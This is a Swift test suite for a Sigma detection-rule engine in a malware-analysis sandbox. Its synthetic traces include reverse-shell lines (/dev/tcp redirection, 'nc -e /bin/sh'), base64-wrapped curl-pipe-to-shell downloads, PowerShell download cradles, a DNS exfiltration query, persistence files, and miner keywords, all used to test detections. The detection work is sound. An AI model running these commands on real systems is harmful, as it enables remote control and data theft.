import Foundation
import Testing
import PetriTestSupport
import PetriModel
@testable import PetriAnalysis

/// The team's Sigma rules (tests/sigma), loaded once.
enum TeamSigma {
    static var directory: String { Repo.path("tests/sigma") }
    static let result = SigmaLoader.load(directories: [directory])
    static func rule(_ suffix: String) -> SigmaRule { result.rules.first { $0.id.hasSuffix(suffix) }! }
}

/// Compiles one rule from text; fails the test on any diagnostic.
func sigmaRule(_ yaml: String, sourceLocation: SourceLocation = #_sourceLocation) -> SigmaRule? {
    let r = SigmaLoader.load(text: yaml, file: "inline.yml")
    #expect(r.diagnostics.isEmpty, "\(r.diagnostics)", sourceLocation: sourceLocation)
    return r.rules.first
}

func sigmaMatches(_ rule: SigmaRule?, _ report: Report) -> Bool {
    guard let rule else { return false }
    return !SigmaEngine.matching(rule, SigmaEventBuilder.events(report)).isEmpty
}

/// A process-creation rule with one selection.
func procRule(_ selection: String, product: String = "linux", condition: String = "selection") -> String {
    """
    title: t
    id: t-1
    logsource:
        category: process_creation
        product: \(product)
    detection:
        selection:
    \(selection.split(separator: "\n").map { "        " + $0 }.joined(separator: "\n"))
        condition: \(condition)
    level: high
    """
}

/// A run whose sample execs `path` with `argv` (as pid 101, a child of the sample).
func execReport(_ path: String, _ argv: [String]) -> Report {
    var t = Trace()
    t.child(101, image: (path as NSString).lastPathComponent)
    t.exec(path, argv: argv, pid: 101)
    return t.report
}

@Suite struct SigmaLoadingTests {
    @Test func teamRulesLoadCleanly() {
        #expect(TeamSigma.result.diagnostics.isEmpty, "\(TeamSigma.result.diagnostics.map(\.description))")
        #expect(TeamSigma.result.rules.count >= 15)
        #expect(TeamSigma.result.skipped.isEmpty)
    }

    @Test func metadataMapsToBehaviourFields() {
        let r = TeamSigma.rule("2c01")
        #expect(r.severity == 4 && r.level == "high")
        #expect(r.attack == ["T1059.004", "T1095"])
        #expect(r.category == .processCreation && r.product == .linux)
        #expect(r.behaviourID == "sigma-6f1c2a3e-0b1d-4a51-9c1e-5d0f7a1b2c01")
        #expect(SigmaRule.severity(level: "informational") == 1 && SigmaRule.severity(level: "critical") == 5)
        #expect(SigmaRule.severity(level: "low") == 1 && SigmaRule.severity(level: "medium") == 3)
    }

    /// SigmaHQ style keyword lists with modifiers (`'|all':`, as in its auditd and builtin Linux rules):
    /// every keyword must be found, each in some field; a plain list is any of them.
    @Test func keywordListsWithModifiers() {
        let all = sigmaRule("""
        title: padding
        id: kw-all
        logsource:
            category: process_creation
            product: linux
        detection:
            keywords_dd:
                '|all':
                    - 'dd'
                    - 'if='
                    - 'conv=notrunc'
            condition: keywords_dd
        level: high
        """)
        #expect(sigmaMatches(all, execReport("/usr/bin/dd", ["dd", "if=/dev/zero", "of=/tmp/x", "conv=notrunc", "bs=1", "count=1"])))
        #expect(!sigmaMatches(all, execReport("/usr/bin/dd", ["dd", "if=/dev/zero", "of=/tmp/x"])))
        let re = sigmaRule(procRule("'|re': 'truncate\\s+-s\\s*\\+'", condition: "selection"))
        #expect(sigmaMatches(re, execReport("/usr/bin/truncate", ["truncate", "-s", "+5000", "/tmp/x"])))
        #expect(!sigmaMatches(re, execReport("/usr/bin/truncate", ["truncate", "-s", "0", "/tmp/x"])))
        let bad = SigmaLoader.load(text: procRule("'|sideways': [a]"), file: "bad.yml")
        #expect(bad.diagnostics.first?.code == .badValue && bad.rules.isEmpty)
    }

    @Test func problemsCarryFileLineAndCode() {
        let text = """
        title: broken
        logsource:
            category: process_creation
        detection:
            sel:
                Image|endswith: '/x'
                CommandLine|containz: 'y'
            bad_re:
                CommandLine|re: '(unclosed'
            bad_net:
                CommandLine|cidr: '10.0.0.0/99'
            condition: sel and not missing
        level: severe
        """
        let r = SigmaLoader.load(text: text, file: "rules/broken.yml")
        #expect(r.rules.isEmpty)
        let byCode = Dictionary(grouping: r.diagnostics, by: \.code)
        #expect(byCode[.badValue]?.contains { $0.line == 7 && $0.message.contains("containz") } == true)
        #expect(byCode[.badRegex]?.first?.line == 9)
        #expect(byCode[.badCIDR]?.first?.line == 11)
        #expect(byCode[.badValue]?.contains { $0.line == 13 && $0.keyPath == "level" } == true)
        #expect(r.diagnostics.allSatisfy { $0.file == "rules/broken.yml" })
        // A bad condition is reported once the selections compile.
        let cond = SigmaLoader.load(text: procRule("Image: '/x'", condition: "selection and not missing"), file: "c.yml")
        #expect(cond.diagnostics.map(\.code) == [.undefinedReference])
        #expect(cond.diagnostics.first?.line == 9)
    }

    @Test func unmappedFieldIsAWarningNotAnError() {
        let r = SigmaLoader.load(text: procRule("Hashes|contains: 'MD5='"), file: "h.yml")
        #expect(r.rules.count == 1)
        #expect(r.diagnostics.map(\.code) == [.unknownField] && r.diagnostics.first?.severity == .warning)
    }

    @Test func unsupportedLogsourcesAreCountedNotLoaded() {
        let text = """
        title: registry
        logsource:
            category: registry_set
            product: windows
        detection:
            selection:
                TargetObject|contains: 'Run'
            condition: selection
        """
        let r = SigmaLoader.load(text: text, file: "r.yml")
        #expect(r.rules.isEmpty && r.diagnostics.isEmpty)
        #expect(r.skipped == ["registry_set/windows": 1])
        let auditd = SigmaLoader.load(text: text.replacingOccurrences(of: "category: registry_set", with: "service: auditd"), file: "a.yml")
        #expect(auditd.skipped == ["service auditd/windows": 1])
    }

    @Test func conditionGrammar() throws {
        let ids = ["sel_a", "sel_b", "filter", "_hidden"]
        func parse(_ s: String) throws -> SigmaCondition {
            var p = SigmaConditionParser(identifiers: ids)
            return try p.parse(s)
        }
        // not > and > or
        guard case .or(let terms) = try parse("sel_a and not filter or sel_b"), terms.count == 2, case .and = terms[0] else {
            Issue.record("precedence"); return
        }
        guard case .and(let t2) = try parse("sel_a and (filter or sel_b)"), case .or = t2[1] else { Issue.record("parentheses"); return }
        guard case .of(1, let names) = try parse("1 of sel_*"), names == ["sel_a", "sel_b"] else { Issue.record("1 of"); return }
        guard case .of(nil, let all) = try parse("all of them"), all == ["sel_a", "sel_b", "filter"] else { Issue.record("them"); return }
        for bad in ["sel_a and", "(sel_a", "sel_a )", "1 of nothing*", "sel_*", "sel_a | count() > 2", "nope"] {
            #expect(throws: SigmaConditionParser.Failure.self) { try parse(bad) }
        }
    }
}

@Suite struct SigmaMatchingTests {
    /// The demo sample's recorded run: exactly the rules written for what it does match.
    @Test func teamRulesOnRecordedDemoRun() throws {
        let report = try ReportJSON.decode(Repo.recordedReport("demo-sample"))
        let matched = Set(SigmaEngine(rules: TeamSigma.result.rules).evaluate(report).map { String($0.id.suffix(4)) })
        #expect(matched == ["2c01", "2c02", "2c03", "2c04", "2c05", "2c06", "2c11"])
        let hello = try ReportJSON.decode(Repo.recordedReport("hello-script"))
        #expect(SigmaEngine(rules: TeamSigma.result.rules).evaluate(hello).isEmpty)
    }

    @Test func matchCarriesTitleSeverityTechniquesAndEvidence() throws {
        let report = try ReportJSON.decode(Repo.recordedReport("demo-sample"))
        let m = try #require(SigmaEngine(rules: [TeamSigma.rule("2c01")]).evaluate(report).first)
        #expect(m.title == "Shell redirection to a /dev/tcp or /dev/udp socket")
        #expect(m.severity == 4 && m.attack == ["T1059.004", "T1095"])
        #expect(m.evidence.events == [330])
        #expect(m.evidence.notes.contains { $0.contains("CommandLine=bash -c exec 3<>/dev/tcp/198.51.100.7/80") })
        let net = try #require(SigmaEngine(rules: [TeamSigma.rule("2c11")]).evaluate(report).first)
        #expect(net.evidence.events == [369] && net.evidence.network == ["198.51.100.7:80"])
        let file = try #require(SigmaEngine(rules: [TeamSigma.rule("2c06")]).evaluate(report).first)
        #expect(file.evidence.files == ["/home/user/.config/autostart/updater.desktop"] && file.evidence.events == [179])
    }

    /// Sigma matches join the native ones and are scored by the same formula.
    @Test func behaviourEngineScoresSigmaMatches() throws {
        let report = try ReportJSON.decode(Repo.recordedReport("demo-sample"))
        var set = RuleSet(rules: [])
        let plain = BehaviourAnalysis.rescored(report, ruleSet: set)
        set.sigma = TeamSigma.result.rules
        let scored = BehaviourAnalysis.rescored(report, ruleSet: set)
        #expect(plain.behaviours.isEmpty && plain.verdict == .benign)
        #expect(scored.behaviours.count == 7 && scored.behaviours.allSatisfy { $0.id.hasPrefix("sigma-") && $0.contribution > 0 })
        #expect(scored.verdict == .malicious)
    }

    @Test func parentFieldsAreWhatTheParentRanWhenItForked() {
        var t = Trace()
        t.exec("/usr/bin/bash", argv: ["bash", "/tmp/x.sh"])
        t.child(101, image: "curl")
        t.exec("/usr/bin/curl", argv: ["curl", "-o", "/tmp/p", "http://a.example/p"], pid: 101)
        t.exec("/usr/bin/python3", argv: ["python3"])  // the parent execs again after the fork
        let events = SigmaEventBuilder.events(t.report).filter { $0.category == .processCreation }
        let curl = events.first { $0.value("Image") == "/usr/bin/curl" }
        #expect(curl?.value("ParentImage") == "/usr/bin/bash")
        #expect(curl?.value("ParentCommandLine") == "bash /tmp/x.sh")
        #expect(curl?.value("CommandLine") == "curl -o /tmp/p http://a.example/p")
        #expect(curl?.value("ProcessId") == "101" && curl?.value("ParentProcessId") == "100")
        #expect(curl?.value("User") == "user" && curl?.value("CurrentDirectory") == "/home/user/Downloads")
    }

    @Test func deniedExecIsNotAProcessCreation() {
        var t = Trace()
        t.sys("execve", ["path": .string("/usr/bin/nc"), "argv": .list(["nc", "-e", "/bin/sh"])], action: .denied)
        #expect(!sigmaMatches(sigmaRule(procRule("Image|endswith: '/nc'")), t.report))
        t.exec("/usr/bin/nc", argv: ["nc", "-e", "/bin/sh"])
        #expect(sigmaMatches(sigmaRule(procRule("Image|endswith: '/nc'")), t.report))
    }

    @Test func stringsAreCaseInsensitiveUnlessCased() {
        let r = execReport("/usr/bin/Curl", ["CURL", "http://A.example/"])
        #expect(sigmaMatches(sigmaRule(procRule("Image: '/usr/bin/curl'")), r))
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine|startswith: 'curl h'")), r))
        #expect(!sigmaMatches(sigmaRule(procRule("CommandLine|startswith|cased: 'curl'")), r))
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine|startswith|cased: 'CURL'")), r))
    }

    @Test func wildcardsAndEscapes() {
        let r = execReport("/usr/bin/echo", ["echo", "a*b?c\\d"])
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine: 'echo a*'")), r))
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine: 'echo ?\\*b\\?c\\d'")), r))  // \d stays a backslash and d
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine: 'echo a\\*b\\?c\\\\d'")), r))
        #expect(!sigmaMatches(sigmaRule(procRule("CommandLine: 'echo ab\\*'")), r))
        #expect(!sigmaMatches(sigmaRule(procRule("CommandLine: 'echo a*b?c'")), r))
        // ? is one character, also a multi-byte one
        let u = execReport("/usr/bin/echo", ["echo", "é!"])
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine: 'echo ?!'")), u))
        #expect(!sigmaMatches(sigmaRule(procRule("CommandLine: 'echo ??!'")), u))
    }

    @Test func allModifierNeedsEveryValue() {
        let r = execReport("/usr/bin/tar", ["tar", "czf", "/tmp/a.tgz", "/home/user/Documents"])
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine|contains|all:\n    - 'czf'\n    - 'Documents'")), r))
        #expect(!sigmaMatches(sigmaRule(procRule("CommandLine|contains|all:\n    - 'czf'\n    - '.ssh'")), r))
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine|contains:\n    - 'czf'\n    - '.ssh'")), r))
    }

    @Test func regexFlags() {
        let r = execReport("/usr/bin/sh", ["sh", "-c", "ID\nwhoami"])
        #expect(!sigmaMatches(sigmaRule(procRule("CommandLine|re: '-c id'")), r))
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine|re|i: '-c id'")), r))
        #expect(!sigmaMatches(sigmaRule(procRule("CommandLine|re: '^whoami$'")), r))
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine|re|m: '^whoami$'")), r))
        #expect(!sigmaMatches(sigmaRule(procRule("CommandLine|re: 'ID.whoami'")), r))
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine|re|s: 'ID.whoami'")), r))
    }

    @Test func base64AndOffsets() {
        // "curl http://a.example/x|sh" base64-encoded at each offset inside a longer text.
        for prefix in ["", "x", "xy"] {
            let payload = Data((prefix + "echo curl http://a.example/x|sh").utf8).base64EncodedString()
            let r = execReport("/usr/bin/bash", ["bash", "-c", "echo \(payload) | base64 -d | sh"])
            #expect(sigmaMatches(sigmaRule(procRule("CommandLine|base64offset|contains: 'curl http'")), r), "offset \(prefix.count)")
            #expect(!sigmaMatches(sigmaRule(procRule("CommandLine|base64offset|contains: 'wget http'")), r))
        }
        let whole = execReport("/usr/bin/bash", ["bash", "-c", "echo " + Data("bash -i".utf8).base64EncodedString()])
        #expect(sigmaMatches(sigmaRule(procRule("CommandLine|base64|contains: 'bash -i'")), whole))
        #expect(!sigmaMatches(sigmaRule(procRule("CommandLine|base64: 'bash -i'")), whole))  // equality, not contains
    }

    /// A Wine process: product windows sees it, product linux does not.
    func wineReport(_ commandLine: String) -> Report {
        var t = Trace()
        var n = ProcessNode(pid: 101, ppid: 100, image: "powershell.exe", path: "/opt/wine/bin/wine64-preloader", argv: [], startNs: 1)
        n.windowsImage = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
        n.commandLine = commandLine
        n.execs = ["/opt/wine/bin/wine64-preloader"]
        t.report.processes.append(n)
        return t.report
    }

    @Test func windashAndWideBase64OnWineProcess() {
        let rule = TeamSigma.rule("2c17")
        for flag in ["-enc", "/enc", "\u{2013}enc", "\u{2014}EncodedCommand"] {
            #expect(sigmaMatches(rule, wineReport("powershell.exe \(flag) AAAA")), "\(flag)")
        }
        #expect(!sigmaMatches(rule, wineReport("powershell.exe x-enc AAAA")))
        let utf16 = Data("IEX (New-Object Net.WebClient)".utf16.flatMap { [UInt8($0 & 0xff), UInt8($0 >> 8)] }).base64EncodedString()
        #expect(sigmaMatches(rule, wineReport("powershell.exe -NoProfile \(utf16)")))
        let linux = sigmaRule(procRule("Image|endswith: '\\powershell.exe'", product: "linux"))
        #expect(!sigmaMatches(linux, wineReport("powershell.exe")))
        let any = sigmaRule(procRule("ParentImage: null\nImage|endswith: '\\powershell.exe'").replacingOccurrences(of: "product: linux", with: "product: windows"))
        #expect(sigmaMatches(any, wineReport("powershell.exe")))
    }

    @Test func fieldrefNullExistsAndNumbers() {
        var t = Trace()
        t.exec("/home/user/.x/d", argv: ["d"])
        t.child(101, image: "d")
        t.exec("/home/user/.x/d", argv: ["d", "--child"], pid: 101)
        let self_ = TeamSigma.rule("2c16")
        #expect(sigmaMatches(self_, t.report))
        #expect(!sigmaMatches(self_, execReport("/home/user/.x/d", ["d"])))
        #expect(sigmaMatches(sigmaRule(procRule("ParentImage|exists: false")), t.report))
        #expect(!sigmaMatches(sigmaRule(procRule("Image|exists: false")), t.report))
        var n = Trace()
        n.exec("/usr/bin/nc", argv: ["nc", "a.example", "23"])
        n.connect("198.51.100.9:23")
        n.connect("198.51.100.9:443")
        let low = TeamSigma.rule("2c12")
        #expect(SigmaEngine.matching(low, SigmaEventBuilder.events(n.report)).count == 1)
        let gte = sigmaRule(procRule("DestinationPort|gte: 443").replacingOccurrences(of: "process_creation", with: "network_connection"))
        #expect(SigmaEngine.matching(gte!, SigmaEventBuilder.events(n.report)).count == 1)
    }

    @Test func fileCategoriesFromOverlayAndEvents() {
        var t = Trace()
        t.exec("/usr/bin/bash", argv: ["bash"])
        t.open("/home/user/.bash_history", "O_RDONLY")
        t.sys("unlink", ["path": .string("/home/user/.bash_history")])
        t.file("/home/user/.bash_history", .deleted, type: .data)
        t.write("/home/user/.bashrc")
        t.file("/home/user/.bashrc", .modified, type: .data)
        t.write("/tmp/unit.service")
        t.sys("rename", ["path": .string("/tmp/unit.service"), "new_path": .string("/etc/systemd/system/evil.service")])
        t.file("/etc/systemd/system/evil.service", .created, type: .data)
        // created and removed within the run: no overlay trace
        t.write("/etc/cron.d/job")
        t.sys("unlink", ["path": .string("/etc/cron.d/job")])
        let ids = Set(SigmaEngine(rules: TeamSigma.result.rules).evaluate(t.report).map { String($0.id.suffix(4)) })
        #expect(ids.isSuperset(of: ["2c07", "2c08", "2c09", "2c10"]))
        let del = SigmaEventBuilder.events(t.report).filter { $0.category == .fileDelete }
        #expect(Set(del.compactMap { $0.value("TargetFilename") }) == ["/home/user/.bash_history", "/etc/cron.d/job"])
        #expect(del.allSatisfy { $0.value("Image") == "/usr/bin/bash" })
    }

    @Test func dnsQueryFields() {
        var t = Trace()
        t.dns("4a6f686e20446f65206973206865726520616e64206e6f77.exfil.example")
        t.dns("www.example")
        let ev = SigmaEventBuilder.events(t.report).filter { $0.category == .dnsQuery }
        #expect(ev.first?.value("QueryStatus") == "0" && ev.first?.value("QueryResults") == "198.51.100.7")
        #expect(SigmaEngine.matching(TeamSigma.rule("2c13"), SigmaEventBuilder.events(t.report)).count == 1)
    }

    @Test func keywordsSearchEveryField() {
        let rule = sigmaRule("""
        title: k
        logsource:
            category: process_creation
        detection:
            keywords:
                - 'dev/tcp'
                - 'xmrig'
            condition: keywords
        """)
        #expect(sigmaMatches(rule, execReport("/usr/bin/bash", ["bash", "-c", "cat </dev/tcp/a.example/1"])))
        #expect(sigmaMatches(rule, execReport("/tmp/XMRig", ["x"])))
        #expect(!sigmaMatches(rule, execReport("/usr/bin/ls", ["ls"])))
    }
}

@Suite struct SigmaEvidenceTests {
    /// Notes quote the sample's command line with control characters escaped.
    @Test func notesEscapeControlCharacters() throws {
        let r = execReport("/usr/bin/sh", ["sh", "-c", "printf '\u{1b}[2J' # /dev/tcp/"])
        let m = try #require(SigmaEngine(rules: [TeamSigma.rule("2c01")]).evaluate(r).first)
        #expect(m.evidence.notes.allSatisfy { !$0.unicodeScalars.contains { $0.value < 0x20 } })
        #expect(m.evidence.notes.contains { $0.contains("printf '\\x1b[2J'") })
    }

    @Test func profilesCheckReportsSigmaProblems() {
        let (text, ok) = ProfileCommands.check(directory: Paths.behaviours, sigma: [TeamSigma.directory])
        #expect(ok && text.contains("\(TeamSigma.result.rules.count) Sigma rules loaded"))
    }
}
